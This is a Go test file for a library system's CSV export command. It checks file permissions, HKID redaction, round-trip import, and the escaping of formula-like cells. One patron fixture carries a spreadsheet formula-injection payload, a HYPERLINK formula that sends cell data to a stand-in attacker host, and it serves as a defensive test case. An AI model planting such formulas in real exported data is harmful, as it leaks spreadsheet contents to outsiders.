package cli_test

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/carrel-library/carrel/internal/storage/storagetest"
)

// exportFiles are a small library with cells that look like formulas.
var exportFiles = []struct{ kind, text string }{
	{"patrons", "barcode,category,name,email,registered_on,expires_on,hkid\n" +
		"20240001,student,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1)\",tm.chan@example.edu.hk,2024-09-01,2028-08-31,\n" +
		"20240002,student,+Wong Siu Ming,,2024-09-01,2028-08-31,\n" +
		"20240003,student,Lee Ka Yan,,,,\n" +
		"20150001,student,Legacy Patron,,2015-09-01,2027-08-31,A123456(3)\n"},
	{"items", "barcode,title,author,call_number,location\n" +
		"B0001,=1+1,-,PL2727 .S2,@Main\n" +
		"B0002,Fortress Besieged,Qian Zhongshu,PL2747 .C4,Main Library\n"},
	{"loans", "patron_barcode,item_barcode,checked_out_on,due_on\n" +
		"20240001,B0001,2026-11-01,2026-11-15\n"},
}

// TestExportCommand runs `carrel export` on each kind of database: to a
// file (mode 0600, formula cells quoted, no HKID) and to standard output;
// the files `carrel import` into an empty library, whose export is then
// byte for byte the same.
func TestExportCommand(t *testing.T) {
	for _, k := range storagetest.Targets() {
		t.Run(k.Name, func(t *testing.T) {
			dir := t.TempDir()
			from, to := k.Fresh(t), k.Fresh(t)
			for _, db := range []string{from, to} {
				if code, _, stderr := carrel(t, "", "migrate", "--db", db); code != 0 {
					t.Fatalf("migrate: exit %d: %s", code, stderr)
				}
			}
			for _, f := range exportFiles {
				if code, _, stderr := carrel(t, f.text, "import", f.kind, "-", "--db", from); code != 0 {
					t.Fatalf("import %s: exit %d: %s", f.kind, code, stderr)
				}
			}

			exported := map[string]string{}
			for _, f := range exportFiles {
				path := filepath.Join(dir, f.kind+".csv")
				code, stdout, stderr := carrel(t, "", "export", f.kind, path, "--db", from)
				rows := strings.Count(f.text, "\n") - 1
				if want := f.kind + ": " + strconv.Itoa(rows) + " rows written to " + path + "\n"; code != 0 || stdout != want {
					t.Fatalf("export %s: exit %d, stdout %q, want %q; stderr %q", f.kind, code, stdout, want, stderr)
				}
				b, err := os.ReadFile(path)
				if err != nil {
					t.Fatal(err)
				}
				if st, _ := os.Stat(path); st.Mode().Perm() != 0o600 {
					t.Errorf("%s is mode %v, want 0600", path, st.Mode().Perm())
				}
				exported[f.kind] = string(b)

				// Standard output gives the same file, the count on stderr.
				code, stdout, stderr = carrel(t, "", "export", "--db", from, f.kind, "-")
				if code != 0 || stdout != string(b) || stderr != f.kind+": "+strconv.Itoa(rows)+" rows written to standard output\n" {
					t.Errorf("export %s -: exit %d, stdout %q, stderr %q", f.kind, code, stdout, stderr)
				}
			}
			for _, want := range []string{`"'=HYPERLINK(""http://evil.example/""&A1)"`, "'+Wong Siu Ming", "20150001,student,Legacy Patron,,2015-09-01,2027-08-31,\n"} {
				if !strings.Contains(exported["patrons"], want) {
					t.Errorf("patrons.csv lacks %q:\n%s", want, exported["patrons"])
				}
			}
			if strings.Contains(exported["patrons"], "A123456") {
				t.Errorf("patrons.csv holds the HKID number:\n%s", exported["patrons"])
			}
			if !strings.Contains(exported["items"], "B0001,'=1+1,'-,PL2727 .S2,'@Main\n") {
				t.Errorf("items.csv:\n%s", exported["items"])
			}

			for _, f := range exportFiles {
				if code, _, stderr := carrel(t, "", "import", f.kind, filepath.Join(dir, f.kind+".csv"), "--db", to); code != 0 {
					t.Fatalf("import of the export %s: exit %d: %s", f.kind, code, stderr)
				}
			}
			for _, f := range exportFiles {
				if code, stdout, _ := carrel(t, "", "export", f.kind, "-", "--db", to); code != 0 || stdout != exported[f.kind] {
					t.Errorf("%s after the round trip:\n%s\nwant:\n%s", f.kind, stdout, exported[f.kind])
				}
			}
		})
	}
}

// TestExportCommandErrors: a bad kind or argument count is a usage error
// (exit 2), and a file that cannot be written leaves nothing behind.
func TestExportCommandErrors(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "carrel.db")
	if code, _, stderr := carrel(t, "", "migrate", "--db", db); code != 0 {
		t.Fatalf("migrate: exit %d: %s", code, stderr)
	}
	if code, _, stderr := carrel(t, "", "export", "fines", "x.csv", "--db", db); code != 2 || !strings.Contains(stderr, `cannot export "fines": want patrons, items or loans`) {
		t.Errorf("bad kind: exit %d, %q", code, stderr)
	}
	if code, _, stderr := carrel(t, "", "export", "items", "--db", db); code != 2 || !strings.Contains(stderr, "want patrons, items or loans and a CSV file") {
		t.Errorf("no file: exit %d, %q", code, stderr)
	}
	missing := filepath.Join(dir, "no-such-folder", "items.csv")
	if code, _, stderr := carrel(t, "", "export", "items", missing, "--db", db); code != 1 || !strings.Contains(stderr, "nothing was written") {
		t.Errorf("unwritable file: exit %d, %q", code, stderr)
	}
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), ".tmp") {
			t.Errorf("left behind %s", e.Name())
		}
	}
}
